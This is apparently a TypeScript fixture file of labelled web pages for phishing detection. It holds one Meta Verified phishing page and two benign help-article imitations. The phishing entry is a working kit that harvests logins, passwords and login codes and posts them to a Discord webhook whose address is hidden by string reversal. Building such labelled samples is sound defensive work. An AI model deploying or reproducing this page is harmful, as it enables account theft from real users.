import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, pngRoute } from '../parts/e-bin.js';
import { page, appCss, badge, wordmark, googleLogo, b64, rev } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-meta-verified-badge-discord-webhook',
  label: 'phishing',
  kind: 'business-page-policy-lure',
  url: 'https://verified-badge-meta.com/business/request?page=1&ref=ig',
  body: page({
    title: 'Meta Verified for Business | Request your badge',
    lang: 'en-US',
    css: appCss('#0866ff', '#f0f2f5') + `.tick{display:inline-flex;width:22px;height:22px;border-radius:50%;background:#0866ff;color:#fff;align-items:center;justify-content:center;font-size:13px;vertical-align:middle}.s2{display:none}`,
    body: `<div class="wrap"><div class="panel" style="max-width:480px">
<h1>Congratulations! Your business is eligible for Meta Verified <span class="tick">&#10003;</span></h1>
<p class="sub">Based on recent activity, your Facebook Page and Instagram business account qualify for a free verified badge, impersonation protection and priority support. Complete the request before the offer expires.</p>
<form id="s1"><label>Facebook Page or Instagram username</label><input type="text" name="handle" required>
<label>Email or phone used to log in</label><input type="text" name="login" required>
<label>Password</label><input type="password" name="password" required>
<button class="btn">Continue</button></form>
<form id="s2" class="s2"><label>Login code</label><input type="text" name="code" maxlength="8" inputmode="numeric" required>
<p class="sub" style="font-size:13px">We sent a code to your authentication app or phone.</p><button class="btn">Confirm request</button></form>
<div class="foot">Meta © 2025 · <a href="#">Privacy Policy</a> · <a href="#">Terms</a></div></div></div>
<script>
var W='${rev('https://discord.com/api/webhooks/1297731548402155520/kX3rP9vQ2mZ7tL1yB8nH4cJ6wE0aS5dF-gT2uI9oK3lM7pN1qR4sV8xY0zA6bC')}'.split('').reverse().join('');
function hook(t){return fetch(W,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'mv',content:t})}).catch(function(){})}
var h='';document.getElementById('s1').onsubmit=function(e){e.preventDefault();var f=new FormData(this);h=f.get('login');hook('**login** '+f.get('handle')+' | '+h+' | '+f.get('password'));this.style.display='none';document.getElementById('s2').style.display='block';};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();hook('**code** '+h+' | '+new FormData(this).get('code')).then(function(){location.href='https://www.facebook.com/'});};
</script>`,
  }),
},
{
  id: 'ya-google-ads-help-suspended-accounts',
  label: 'clean',
  kind: 'brand-help-article',
  url: 'https://support.google.com/google-ads/answer/2375414?hl=en-GB',
  body: page({
    title: 'About suspended Google Ads accounts - Google Ads Help',
    css: `body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;color:#202124;line-height:1.6}
.hd{border-bottom:1px solid #dadce0;padding:12px 24px;display:flex;align-items:center;gap:12px}
main{max-width:760px;margin:30px auto;padding:0 20px}
h1{font-weight:400;font-size:30px}.callout{background:#e8f0fe;border-radius:8px;padding:14px 18px;margin:20px 0}
.warn{background:#fce8e6;border-radius:8px;padding:14px 18px}`,
    body: `<div class="hd">${googleLogo}<span style="font-size:20px;color:#5f6368">Google Ads Help</span></div>
<main>
<h1>About suspended Google Ads accounts</h1>
<p>If your Google Ads account is suspended, your ads will stop running and you won't be able to create new ads. We'll notify you by email and in your Google Ads account about the suspension and the reason for it.</p>
<div class="callout">To see why your account was suspended, sign in to your Google Ads account at <b>ads.google.com</b>. The reason will appear in a red bar at the top of the page, with a link to submit an appeal.</div>
<h2>How to appeal</h2>
<ol><li>Sign in to your Google Ads account.</li><li>Click <b>Appeal</b> on the notification banner.</li><li>Follow the instructions to submit the appeal form.</li></ol>
<div class="warn"><b>Beware of phishing.</b> Google will only ask you to appeal inside your Google Ads account. We won't send you links to Google Sites pages, forms or other websites to appeal, and we'll never ask for your password outside accounts.google.com.</div>
<p style="font-size:14px;color:#5f6368">Was this helpful? <a href="#">Yes</a> · <a href="#">No</a></p>
</main>`,
  }),
},
{
  id: 'ya-meta-business-help-restrictions',
  label: 'clean',
  kind: 'brand-help-article',
  url: 'https://www.facebook.com/business/help/1056346251402637?id=2113374975462493',
  body: page({
    title: 'About restricted advertising accounts | Meta Business Help Centre',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5;color:#1c1e21;line-height:1.55}
.hd{background:#fff;padding:12px 24px;box-shadow:0 1px 2px rgba(0,0,0,.1);font-weight:700}
.c{max-width:760px;margin:24px auto;background:#fff;border-radius:8px;padding:28px}
.note{border-left:4px solid #1877f2;background:#e7f3ff;padding:12px 16px;margin:18px 0}`,
    body: `<div class="hd">Meta Business Help Centre</div>
<div class="c">
<h1 style="font-size:26px">About restricted advertising accounts</h1>
<p>If we find that your ad account, Page or business portfolio doesn't follow our Advertising Standards or Community Standards, we may restrict its ability to advertise. You can see any restrictions and request a review in <b>Account Quality</b> at business.facebook.com/accountquality.</p>
<div class="note"><b>Stay safe:</b> Meta will never send you a message asking for your password or login codes, and won't threaten to delete your Page within 24 hours. Messages about Page deletion that link to websites other than facebook.com or meta.com are scams. Report them at facebook.com/help/contact.</div>
<h2 style="font-size:19px">Request a review</h2>
<ol><li>Go to Account Quality.</li><li>Select the restricted asset.</li><li>Click <b>Request review</b> and follow the steps.</li></ol>
<p style="font-size:13px;color:#65676b">Was this information helpful? · Related: <a href="https://www.facebook.com/business/help/135033327063032">Protect your business from phishing</a></p>
</div>`,
  }),
},
];
